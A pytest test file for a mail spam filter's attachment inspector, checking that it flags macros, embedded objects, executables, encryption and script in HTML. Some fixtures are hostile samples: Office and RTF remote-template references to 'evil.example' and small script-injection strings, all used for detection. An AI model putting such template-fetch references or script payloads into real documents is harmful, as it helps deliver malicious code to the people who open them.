"""What files hold: found by signs, whatever they are called, and in bounds."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailstack.spam.rules.archives import MAX_ENTRIES
from mailstack.spam.rules.inside import is_worth_a_look, look_inside
from mailstack.spam.rules.signs import Sign
from tests.spam.rules.test_archives import archive_of, encrypted

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
RELATION = (
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
)


def signs(content: bytes, ending: str = "", media_type: str = "application/octet-stream") -> set[Sign]:
    return set(look_inside(content, ending, media_type).signs)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (encrypted(archive_of({"a.exe": b"MZ"})), {Sign.ENCRYPTED}),
        (archive_of({"[Content_Types].xml": b"", "word/document.xml": b""}), {Sign.DOCUMENT}),
        (archive_of({"[Content_Types].xml": b"", "word/vbaProject.bin": b""}), {Sign.DOCUMENT, Sign.MACROS}),
        (
            archive_of({"[Content_Types].xml": b"", "word/_rels/settings.xml.rels": RELATION}),
            {Sign.DOCUMENT, Sign.FETCHES},
        ),
        (OLE, {Sign.DOCUMENT}),
        (OLE + "_VBA_PROJECT".encode("utf-16-le"), {Sign.DOCUMENT, Sign.MACROS}),
        (OLE + "EncryptedPackage".encode("utf-16-le"), {Sign.DOCUMENT, Sign.ENCRYPTED}),
        (OLE + "\x01Ole10Native".encode("utf-16-le"), {Sign.DOCUMENT, Sign.OBJECTS}),
        (b"{\\rtf1 hello}", {Sign.DOCUMENT}),
        (b"{\\rt{\\object\\objemb{\\*\\objdata 0105}}}", {Sign.DOCUMENT, Sign.OBJECTS}),
        (b"{\\rtf1{\\*\\template http://evil.example/t}}", {Sign.DOCUMENT, Sign.FETCHES}),
        (b"MZ\x90\0", {Sign.PROGRAM}),
        (b"\x7fELF\x02\0", {Sign.PROGRAM}),
        (b"L\0\0\0\x01\x14\x02\0\0\0", {Sign.PROGRAM}),
        (b"MZ 12, Mainz", set()),
        (b"%PDF-1.7", set()),
        (b"", set()),
    ],
)
def test_signs(content: bytes, expected: set[Sign]) -> None:
    assert signs(content) == expected


@pytest.mark.parametrize(
    ("page", "expected"),
    [
        (b"<p>hello</p>", set()),
        (b"<SCRIPT>x()</SCRIPT>", {Sign.SCRIPT}),
        (b"<svg onload = x()>", {Sign.SCRIPT}),
        (b"<input name=p type='password'>", {Sign.SCRIPT}),
        (b"<a href='javascript:x()'>", {Sign.SCRIPT}),
        (b"<p>I am on load today</p>", set()),
    ],
)
def test_pages(page: bytes, expected: set[Sign]) -> None:
    assert signs(page, "html") == signs(page, "", "text/html") == expected
    assert signs(page, "txt", "text/plain") == set()


def test_what_is_looked_at_at_all() -> None:
    assert is_worth_a_look(b"PK\x03\x04", "jpg", "image/jpeg")
    assert is_worth_a_look(b"<svg", "", "image/svg+xml")
    assert not is_worth_a_look(b"\xff\xd8\xff", "jpg", "image/jpeg")


@given(st.binary(max_size=300), st.sampled_from([b"PK\x03\x04", b"PK\x01\x02", OLE, b"{\\rt", b""]), st.integers(0, 40))
def test_no_file_is_too_odd(more: bytes, begin: bytes, cut: int) -> None:
    content = begin + more[:cut] + archive_of({"b.zip": b"PK\x03\x04"})[: len(more)] + more[cut:]
    assert len(look_inside(content, "html", "text/html").names) <= MAX_ENTRIES
